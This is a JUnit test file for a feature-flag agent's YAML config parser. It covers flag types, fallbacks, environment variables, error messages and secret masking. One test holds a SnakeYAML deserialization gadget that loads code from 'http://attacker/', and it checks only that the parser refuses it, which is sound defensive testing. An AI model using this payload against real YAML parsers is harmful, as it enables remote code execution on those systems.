package dev.pancake.agent.config;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

class ConfigParserTest {

    private static final String SPEC_EXAMPLE = """
            namespace: pancake
            redis:
              url: redis://localhost:6379/0
              timeout-ms: 100
            groups:
              user: com.example.web.RequestContext#CURRENT_USER.id
              tenant: com.example.web.RequestContext#currentTenant()
            flags:
              NEW_CHECKOUT:
                type: switch
                default: false
                fallback: throw
              BETA_SEARCH:
                type: flag
                default: false
                fallback: {call: legacySearch}
              RECOMMENDATIONS:
                type: sample
                default: 25
                sticky: user
                fallback: skip
                methods:
                  "com.example.Shop#recommendationCount": {return: 0}
            """;

    private static Config parse(String yaml) throws ConfigException {
        return ConfigParser.parse(yaml, "pancake.yml", Map.of("PASSWORD", "s3cret", "EMPTY", "")::get);
    }

    private static String problems(String yaml) {
        return assertThrows(ConfigException.class, () -> parse(yaml)).getMessage();
    }

    @Test
    void parsesTheSpecExample() throws Exception {
        Config c = parse(SPEC_EXAMPLE);
        assertEquals("pancake", c.namespace());
        assertEquals("redis://localhost:6379/0", c.redis().url());
        assertEquals(100, c.redis().timeoutMs());
        assertEquals(List.of("user", "tenant"), c.groups().stream().map(GroupDef::name).toList());
        AccessorSpec user = c.group("user").accessor();
        assertEquals("com.example.web.RequestContext", user.className());
        assertEquals("CURRENT_USER", user.member());
        assertFalse(user.method());
        assertEquals(List.of("id"), user.properties());
        assertTrue(c.group("tenant").accessor().method());
        assertEquals(List.of("NEW_CHECKOUT", "BETA_SEARCH", "RECOMMENDATIONS"), List.copyOf(c.flags().keySet()));
        assertEquals(FallbackSpec.THROW, c.flag("NEW_CHECKOUT").fallback());
        assertEquals(new FallbackSpec.Call("legacySearch"), c.flag("BETA_SEARCH").fallback());
        FlagDef rec = c.flag("RECOMMENDATIONS");
        assertEquals(FlagType.SAMPLE, rec.type());
        assertEquals(25.0, rec.defaultPercent());
        assertEquals("user", rec.sticky());
        assertEquals(new FallbackSpec.Return(0L), rec.fallbackFor("com.example.Shop", "recommendationCount"));
        assertEquals(FallbackSpec.SKIP, rec.fallbackFor("com.example.Shop", "other"));
    }

    @Test
    void emptyFileMeansNoFlagsAndTheMemoryStore() throws Exception {
        Config c = parse("");
        assertNull(c.redis());
        assertTrue(c.flags().isEmpty());
        assertEquals("pancake", c.namespace());
    }

    @Test
    void flagNamesAreCaseInsensitiveAndStoredUpperCase() throws Exception {
        Config c = parse("flags:\n  new_checkout: {default: true}\n");
        assertTrue(c.flag("NEW_CHECKOUT").defaultActive());
        assertTrue(problems("flags:\n  a: {}\n  A: {}\n").contains("pancake.yml:3:3: flags.A: flag A is declared twice"));
    }

    @Test
    void typeIsInferredWhenNotWritten() throws Exception {
        Config c = parse("flags:\n  A: {default: true}\n  B: {default: 40}\n  C:\n");
        assertEquals(FlagType.SWITCH, c.flag("A").type());
        assertFalse(c.flag("A").typeDeclared());
        assertEquals(FlagType.SAMPLE, c.flag("B").type());
        assertEquals(FlagType.SWITCH, c.flag("C").type());
    }

    @Test
    void unknownKeysAreReportedWithLineAndColumn() {
        String m = problems("flags:\n  A:\n    defualt: true\n");
        assertTrue(m.contains("pancake.yml:3:5: flags.A.defualt: unknown key \"defualt\""), m);
    }

    @Test
    void wrongTypesNameTheKeyAndWhatWasExpected() {
        assertTrue(problems("flags:\n  A: {type: switch, default: maybe}\n")
                .contains("pancake.yml:2:30: flags.A.default: expected true or false, got \"maybe\""));
        assertTrue(problems("redis:\n  url: redis://x\n  timeout-ms: soon\n")
                .contains("pancake.yml:3:15: redis.timeout-ms: expected a whole number in 1..60000, got \"soon\""));
        assertTrue(problems("flags:\n  A: {type: toggle}\n").contains("expected switch, flag or sample, got \"toggle\""));
    }

    @Test
    void samplePercentMustBeInRange() {
        String m = problems("flags:\n  A: {type: sample, default: 150}\n");
        assertTrue(m.contains("flags.A.default: a sample's default is a percentage in 0..100, got \"150\""), m);
    }

    @Test
    void badFlagNamesAreRefused() {
        assertTrue(problems("flags:\n  \"NEW CHECKOUT\": {}\n").contains("a flag name must be letters"));
        assertTrue(problems("flags:\n  \"A:B\": {}\n").contains("a flag name must be letters"));
    }

    @Test
    void fallbacksOfEveryShape() throws Exception {
        Config c = parse("""
                flags:
                  A: {fallback: skip}
                  B: {fallback: throw}
                  C: {fallback: {return: "text"}}
                  D: {fallback: {return: 4.5}}
                  E: {fallback: {return: null}}
                  F: {fallback: {return: true}}
                  G: {fallback: {call: other}}
                """);
        assertEquals(FallbackSpec.SKIP, c.flag("A").fallback());
        assertEquals(FallbackSpec.THROW, c.flag("B").fallback());
        assertEquals(new FallbackSpec.Return("text"), c.flag("C").fallback());
        assertEquals(new FallbackSpec.Return(4.5), c.flag("D").fallback());
        assertEquals(new FallbackSpec.Return(null), c.flag("E").fallback());
        assertEquals(new FallbackSpec.Return(true), c.flag("F").fallback());
        assertEquals(new FallbackSpec.Call("other"), c.flag("G").fallback());
        assertTrue(problems("flags:\n  A: {fallback: ignore}\n").contains("expected skip, throw, {return: VALUE} or {call: methodName}"));
        assertTrue(problems("flags:\n  A: {fallback: {call: \"not a name\"}}\n").contains("expected the name of a method"));
    }

    @Test
    void stickyMustNameADeclaredGroupAndOnlySamplesAreSticky() {
        assertTrue(problems("flags:\n  A: {type: sample, sticky: user}\n").contains("expected a group declared under groups: (there are none)"));
        assertTrue(problems("groups:\n  user: a.B#C\nflags:\n  A: {type: switch, sticky: user}\n").contains("only a sample can be sticky"));
    }

    @Test
    void accessorSyntaxIsChecked() {
        assertTrue(problems("groups:\n  user: not an accessor\n").contains("groups.user: expected com.example.Class#FIELD"));
        assertTrue(problems("groups:\n  user: com.example.Ctx#user(x)\n").contains("groups.user: expected"));
    }

    @Test
    void environmentVariablesExpandAnywhere() throws Exception {
        Config c = parse("redis:\n  url: redis://:${PASSWORD}@host:6379\n  timeout-ms: ${TIMEOUT:-250}\n");
        assertEquals("redis://:s3cret@host:6379", c.redis().url());
        assertEquals(250, c.redis().timeoutMs());
        assertTrue(problems("redis:\n  url: redis://:${MISSING}@host\n").contains("environment variable MISSING is not set"));
        assertEquals("redis://x", parse("redis:\n  url: ${EMPTY:-redis://x}\n").redis().url());
    }

    @Test
    void anEmptyUrlMeansTheInMemoryStore() throws Exception {
        assertNull(parse("redis:\n  url: ${REDIS_URL:-}\n  timeout-ms: 50\n").redis());
        assertNull(parse("redis:\n  url: \"\"\n").redis());
    }

    @Test
    void secretsNeverAppearInMessages() {
        String m = problems("redis:\n  url: http://user:s3cret@host\n");
        assertFalse(m.contains("s3cret"), m);
        assertTrue(m.contains("user:***@host"), m);
    }

    @Test
    void yamlTagsThatWouldBuildObjectsAreRefused() {
        String gadget = "flags: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker/\"]]]]\n";
        String m = problems(gadget);
        assertTrue(m.startsWith("pancake.yml:1:8: "), m);
        assertTrue(m.contains("YAML tag tag:yaml.org,2002:javax.script.ScriptEngineManager is not allowed"), m);
    }

    @Test
    void syntaxErrorsHaveLineAndColumn() {
        String m = problems("flags:\n  A: {default: true\n  B: {}\n");
        assertTrue(m.startsWith("pancake.yml:3:"), m);
        assertTrue(m.contains("not valid YAML"), m);
    }

    @Test
    void exactlyOneKindOfRedis() {
        assertTrue(problems("redis:\n  timeout-ms: 5\n").contains("expected one of url, sentinel or cluster"));
        assertTrue(problems("redis:\n  url: redis://a\n  cluster: [\"a:1\"]\n").contains("expected only one of"));
    }

    @Test
    void adminNeedsAPortAndALongEnoughToken() throws Exception {
        Config c = parse("admin: {port: 8081, token: abcdefgh}\n");
        assertEquals(8081, c.admin().port());
        assertEquals("127.0.0.1", c.admin().bind());
        assertTrue(problems("admin: {port: 8081, token: short}\n").contains("admin.token: expected at least 8 characters"));
    }
}
